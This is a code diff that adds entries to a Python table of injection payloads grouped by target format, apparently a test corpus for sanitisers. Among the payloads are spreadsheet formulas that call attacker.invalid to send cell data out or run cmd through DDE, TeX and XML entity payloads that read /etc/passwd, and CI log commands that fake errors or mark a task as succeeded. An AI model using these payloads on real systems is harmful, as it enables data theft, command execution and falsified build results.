@@ -48,6 +48,7 @@ BY_AIM = {
         "=1+1", "=HYPERLINK(\"http://attacker.invalid/{n}\",\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
         "\t=1+1", "\r=1+1", "\n=1+1", "\"=1+1\"", "x;=1+1", "x,=1+1", "x\t=1+1", "x\",\"=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "|x", "%x",
         "=IMPORTXML(CONCAT(\"http://attacker.invalid/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", " =1+1", "'=1+1", "\u200b=1+1",
+        "x\"\u0301,=1+1",
     ],
     "tex": [
         "\\input{{/etc/passwd}}", "\\write18{{touch attacked}}", "\\immediate\\openout1=attacked", "\\csname input\\endcsname{{/etc/passwd}}",
@@ -66,6 +67,7 @@ BY_AIM = {
         "\u001bP+q544e\u001b\\", "\u001b]52;c;YXR0YWNrZWQ=\u0007", "all well\rbad", "good\b\b\b\bbad", "\u000c", "\u007f\u007f", "\u001b[8mhidden",
         "::error::gone", "::set-env name=x::y", "::add-mask::x", "::stop-commands::x", "%0A::error::x", "##[error]x",
         "##vso[task.complete result=Succeeded]x", "ok\nnot ok 1 - x\n1..0", "x # SKIP", "x # TODO", "Bail out!", "\u001b(0\u000e",
+        "\u0600##[error]x", "\u3000::error::x", "%\u03010A::error::x", "a\r\n::error::x", "\U000e0041\U000e0042x", "a\u200bb",
     ],
     "xml": [
         "]]></system-out><failure/>", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>", "&y;", "&#0;", "&#xFFFE;", "<?xml version=\"1.0\"?>",
